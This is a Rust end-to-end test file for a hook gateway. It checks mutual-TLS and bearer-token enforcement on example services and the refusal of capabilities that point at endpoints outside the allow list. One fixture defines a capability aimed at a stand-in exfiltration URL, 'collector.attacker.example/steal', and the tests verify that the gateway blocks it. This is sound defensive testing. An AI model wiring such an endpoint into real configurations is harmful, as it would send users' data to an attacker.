//! Capabilities a platform can trust, from outside: the gateway calls only the endpoints the
//! platform allows, and presents its credentials (mutual TLS, a bearer token) to the example
//! services, which refuse every caller without them.

use rcgen::{
    BasicConstraints, CertificateParams, ExtendedKeyUsagePurpose, IsCa, Issuer, KeyPair, SanType,
};
use serde_json::{Value, json};
use sluice_e2e::{Harness, action, text};
use sluice_example_services::{Guard, ServerTls, Services};
use sluice_gateway::Trust;
use sluice_proto::{self as proto, Action};
use std::collections::HashMap;
use std::path::Path;

/// A hook that performs the host_call its input (JSON) describes and reports the answer or error.
const CALLER: &str = r#"import json
def execute(context, settings):
    req = json.loads(context["outgoing"])
    try:
        out = {"ok": context.host_call(req["name"], req["payload"])}
    except HostCallError as e:
        out = {"error": str(e), "code": e.code}
    return {"action": "modify", "outgoing": json.dumps(out)}
"#;

fn chain() -> String {
    let mut y = String::from(
        "apiVersion: sluice.dev/v1alpha1\nkind: HookChain\nmetadata: {name: caller, namespace: default}\nspec:\n  target: t-trust\n  triggerPoint: input\n  timeoutMs: 3000\n  pool: {warm: 1, max: 4}\n  hooks:\n    - name: caller\n      action: modify\n      capabilities: [llm.run, outside.run]\n      code: |\n",
    );
    for l in CALLER.lines() {
        y.push_str(&format!("        {l}\n"));
    }
    y
}

/// The example capabilities at `llm` (gRPC) and `credit` (HTTP), naming `credentials` when given,
/// and `outside.run`, whose endpoint no list here allows.
fn capabilities(llm: &str, credit: &str, credentials: Option<&str>) -> String {
    let creds = credentials.map_or(String::new(), |c| format!(", credentials: {c}"));
    format!(
        r#"apiVersion: sluice.dev/v1alpha1
kind: Capability
metadata: {{name: llm.run, namespace: default}}
spec:
  gates: [credit.check]
  dispatch: [credit.consume]
  endpoint: {{grpc: "{llm}"{creds}}}
---
apiVersion: sluice.dev/v1alpha1
kind: Capability
metadata: {{name: credit.check, namespace: default}}
spec: {{endpoint: {{http: "{credit}/execute"{creds}}}, timeoutMs: 2000}}
---
apiVersion: sluice.dev/v1alpha1
kind: Capability
metadata: {{name: credit.consume, namespace: default}}
spec: {{endpoint: {{http: "{credit}/execute"{creds}}}, timeoutMs: 2000}}
---
apiVersion: sluice.dev/v1alpha1
kind: Capability
metadata: {{name: outside.run, namespace: default}}
spec: {{endpoint: {{http: "http://collector.attacker.example/steal"}}, timeoutMs: 2000}}
"#
    )
}

async fn call(h: &Harness, name: &str) -> Value {
    let ctx: HashMap<String, String> = [("user_id".to_string(), "ann".to_string())].into();
    let req =
        json!({"name": name, "payload": {"prompt": "Summarise: It rained. Then it stopped."}});
    let r = h
        .run(
            "t-trust",
            "input",
            proto::run_request::Payload::Text(req.to_string()),
            ctx,
        )
        .await
        .unwrap();
    assert_eq!(action(&r), Action::Modify, "{r:?}");
    serde_json::from_str(text(&r)).unwrap()
}

/// A CA, the services' certificate (for 127.0.0.1) and the gateway's client certificate, as PEM.
struct Pki {
    ca: String,
    server: (String, String),
    gateway: (String, String),
    stranger: (String, String),
}

fn pki() -> Pki {
    let ca_key = KeyPair::generate().unwrap();
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let ca = ca_params.self_signed(&ca_key).unwrap().pem();
    let issuer = Issuer::new(ca_params, ca_key);
    let leaf = |issuer: &Issuer<'_, KeyPair>, usage| {
        let mut params = CertificateParams::new(Vec::<String>::new()).unwrap();
        params.subject_alt_names = vec![SanType::IpAddress("127.0.0.1".parse().unwrap())];
        params.extended_key_usages = vec![usage];
        let key = KeyPair::generate().unwrap();
        let cert = params.signed_by(&key, issuer).unwrap();
        (cert.pem(), key.serialize_pem())
    };
    // A client certificate from a CA the services do not trust.
    let other_key = KeyPair::generate().unwrap();
    let mut other_params = CertificateParams::new(Vec::<String>::new()).unwrap();
    other_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let other = Issuer::new(other_params, other_key);
    Pki {
        ca,
        server: leaf(&issuer, ExtendedKeyUsagePurpose::ServerAuth),
        gateway: leaf(&issuer, ExtendedKeyUsagePurpose::ClientAuth),
        stranger: leaf(&other, ExtendedKeyUsagePurpose::ClientAuth),
    }
}

fn put(dir: &Path, name: &str, text: &str) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join(name), text).unwrap();
}

/// POSTs a credit check to the ledger as something other than the gateway would: with `client`
/// (certificate, key) or none, and `token` or none. `Err` when the TLS handshake or the connection
/// fails; else the HTTP status.
async fn post_to_ledger(
    addr: std::net::SocketAddr,
    ca: &str,
    client: Option<&(String, String)>,
    token: Option<&str>,
) -> Result<u16, String> {
    use rustls_pki_types::pem::PemObject;
    use rustls_pki_types::{CertificateDer, PrivateKeyDer};
    let mut roots = rustls::RootCertStore::empty();
    roots
        .add(CertificateDer::from_pem_slice(ca.as_bytes()).unwrap())
        .unwrap();
    let provider = std::sync::Arc::new(rustls::crypto::ring::default_provider());
    let builder = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots);
    let config = match client {
        Some((cert, key)) => builder
            .with_client_auth_cert(
                vec![CertificateDer::from_pem_slice(cert.as_bytes()).unwrap()],
                PrivateKeyDer::from_pem_slice(key.as_bytes()).unwrap(),
            )
            .unwrap(),
        None => builder.with_no_client_auth(),
    };
    let connector = tokio_rustls::TlsConnector::from(std::sync::Arc::new(config));
    let tcp = tokio::net::TcpStream::connect(addr)
        .await
        .map_err(|e| e.to_string())?;
    let tls = connector
        .connect("127.0.0.1".try_into().unwrap(), tcp)
        .await
        .map_err(|e| e.to_string())?;
    let (mut sender, conn) =
        hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tls))
            .await
            .map_err(|e| e.to_string())?;
    tokio::spawn(conn);
    let body = json!({"name": "credit.check", "payload": {"capability": "llm.run", "call_id": "x.1",
        "payload": {}, "caller": {"user_id": "ann"}}});
    let mut req = hyper::Request::post(format!("https://{addr}/execute"))
        .header("content-type", "application/json")
        .body(http_body_util::Full::new(bytes::Bytes::from(
            body.to_string(),
        )))
        .unwrap();
    if let Some(t) = token {
        req.headers_mut()
            .insert("authorization", format!("Bearer {t}").parse().unwrap());
    }
    let resp = sender.send_request(req).await.map_err(|e| e.to_string())?;
    Ok(resp.status().as_u16())
}

/// The gateway presents the credential set a Capability names: its client certificate to services
/// that require mutual TLS, its bearer token, and trusts the set's CA for their certificates. The
/// services refuse the same call without any one of them, and the ledger is not touched.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_gateway_presents_its_credentials_and_the_services_refuse_calls_without() {
    let pki = pki();
    let guard = Guard {
        token: Some("gateway-s3cret".into()),
        tls: Some(ServerTls {
            cert: pki.server.0.clone().into(),
            key: pki.server.1.clone().into(),
            client_ca: pki.ca.clone().into(),
        }),
    };
    let services = Services::start_guarded(
        "127.0.0.1:0".parse().unwrap(),
        "127.0.0.1:0".parse().unwrap(),
        guard,
    )
    .await
    .unwrap();
    services.credit.set_balance("ann", 10);
    let creds = tempfile::tempdir().unwrap();
    let full = creds.path().join("ledger");
    put(&full, "token", "gateway-s3cret\n");
    put(&full, "tls.crt", &pki.gateway.0);
    put(&full, "tls.key", &pki.gateway.1);
    put(&full, "ca.crt", &pki.ca);
    // The same set without the token.
    let no_token = creds.path().join("no-token");
    put(&no_token, "tls.crt", &pki.gateway.0);
    put(&no_token, "tls.key", &pki.gateway.1);
    put(&no_token, "ca.crt", &pki.ca);

    let llm = format!("https://{}", services.llm_addr);
    let credit = format!("https://{}", services.credit_addr);
    let creds_dir = creds.path().to_path_buf();
    let h = Harness::start_with(
        &[
            ("caps.yaml", &capabilities(&llm, &credit, Some("ledger"))),
            ("chain.yaml", &chain()),
        ],
        |o| o.trust.credentials = Some(creds_dir),
    )
    .await;
    let out = call(&h, "llm.run").await;
    assert_eq!(out["ok"]["text"], "Summary: It rained.", "{out}");
    let names: Vec<String> = services.calls().into_iter().map(|c| c.name).collect();
    assert_eq!(names, ["credit.check", "llm.run", "credit.consume"]);
    assert_eq!(
        services.credit.balance("ann"),
        (9, 0),
        "one credit consumed"
    );

    // Anything else that reaches the ledger's port is refused, and the ledger does not move.
    let addr = services.credit_addr;
    assert!(
        post_to_ledger(addr, &pki.ca, None, Some("gateway-s3cret"))
            .await
            .is_err()
    );
    assert!(
        post_to_ledger(addr, &pki.ca, Some(&pki.stranger), Some("gateway-s3cret"))
            .await
            .is_err()
    );
    assert_eq!(
        post_to_ledger(addr, &pki.ca, Some(&pki.gateway), None).await,
        Ok(401)
    );
    assert_eq!(
        post_to_ledger(addr, &pki.ca, Some(&pki.gateway), Some("wrong")).await,
        Ok(401)
    );
    assert_eq!(services.calls().len(), 3);
    assert_eq!(services.credit.balance("ann"), (9, 0));

    // A set without the token: the ledger refuses the gate, which the hook sees as `unavailable`
    // (not `denied`: nothing said no to the user).
    h.write_file("caps.yaml", &capabilities(&llm, &credit, Some("no-token")));
    let out = tokio::time::timeout(std::time::Duration::from_secs(20), async {
        loop {
            let out = call(&h, "llm.run").await;
            if out["code"] == "unavailable" {
                return out;
            }
            tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        }
    })
    .await
    .expect("the reloaded capabilities use the set without a token");
    assert!(out["error"].as_str().unwrap().contains("401"), "{out}");
    let before = services.calls().len();
    let again = call(&h, "llm.run").await;
    assert_eq!(again["code"], "unavailable", "{again}");
    assert_eq!(
        services.calls().len(),
        before,
        "the refused gate reached nothing"
    );
    h.stop_and_check_leaks().await;
    services.stop();
}

/// A Capability pointing outside the allowed endpoints is refused by the gateway at the call, with
/// `forbidden` and the message `sluice check`, the webhook and the operator give; nothing is sent
/// anywhere, not even to its gates.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_capability_outside_the_allowed_endpoints_is_refused_before_any_gate() {
    let services = Services::start(
        "127.0.0.1:0".parse().unwrap(),
        "127.0.0.1:0".parse().unwrap(),
    )
    .await
    .unwrap();
    services.credit.set_balance("ann", 10);
    let llm = format!("http://{}", services.llm_addr);
    let credit = format!("http://{}", services.credit_addr);
    // The ledger's port is allowed; the fake LLM's is not.
    let allowed: sluice_crds::endpoints::AllowedEndpoints =
        format!("127.0.0.1:{}", services.credit_addr.port())
            .parse()
            .unwrap();
    let trust = Trust {
        allowed: allowed.clone(),
        credentials: None,
    };
    let h = Harness::start_with(
        &[
            ("caps.yaml", &capabilities(&llm, &credit, None)),
            ("chain.yaml", &chain()),
        ],
        |o| o.trust = trust,
    )
    .await;
    for (name, url) in [
        ("llm.run", llm.as_str()),
        ("outside.run", "http://collector.attacker.example/steal"),
    ] {
        let out = call(&h, name).await;
        assert_eq!(out["code"], "forbidden", "{out}");
        let reason = allowed
            .check(&sluice_crds::Endpoint {
                grpc: Some(url.to_string()).filter(|_| name == "llm.run"),
                http: Some(url.to_string()).filter(|_| name != "llm.run"),
                ..Default::default()
            })
            .unwrap_err()
            .to_string();
        assert!(out["error"].as_str().unwrap().ends_with(&reason), "{out}");
    }
    assert!(services.calls().is_empty(), "{:?}", services.calls());
    assert_eq!(services.credit.balance("ann"), (10, 0));
    h.stop_and_check_leaks().await;
    services.stop();
}
